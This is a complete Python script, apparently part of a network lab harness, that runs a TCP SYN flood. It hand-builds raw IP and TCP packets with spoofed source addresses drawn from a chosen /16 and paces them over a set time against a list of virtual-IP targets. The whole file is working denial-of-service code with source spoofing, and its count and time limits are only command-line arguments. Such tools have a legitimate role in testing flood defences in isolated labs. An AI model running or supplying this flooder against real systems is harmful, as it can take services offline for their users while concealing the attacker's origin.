#!/usr/bin/env python3
"""A SYN flood from spoofed sources, bounded in count and time: COUNT TCP SYNs, spread evenly
over SECONDS, round-robin over the targets, each from a random address in SPOOF_NET/16 and a
random port (an IP raw socket: the kernel routes them and fills in nothing else). Prints
"flood: started", then "flood: sent N in T s".

Usage: syn_flood.py COUNT SECONDS SPOOF_NET VIP:PORT [VIP:PORT ...]"""
import random
import socket
import struct
import sys
import time

from labnet import checksum

count, seconds, spoof_net = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3]
targets = [(socket.inet_aton(t.split(":")[0]), int(t.split(":")[1])) for t in sys.argv[4:]]
rng = random.Random(20261130)
base = struct.unpack("!I", socket.inet_aton(spoof_net))[0] & 0xFFFF0000
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)


def syn(src, dst, sport, dport):
    seq = rng.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rng.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


print("flood: started", flush=True)
t0 = time.time()
sent = 0
for i in range(count):
    # Pace: packet i leaves no earlier than its share of SECONDS (bounded in time either way).
    due = t0 + seconds * i / count
    now = time.time()
    if now < due:
        time.sleep(due - now)
    if now > t0 + seconds * 3:
        break
    dst, dport = targets[i % len(targets)]
    src = struct.pack("!I", base | rng.randrange(1, 0xFFFF))
    try:
        sock.sendto(syn(src, dst, rng.randrange(1024, 65535), dport), (socket.inet_ntoa(dst), 0))
        sent += 1
    except OSError:
        pass
print(f"flood: sent {sent} in {time.time() - t0:.2f} s", flush=True)
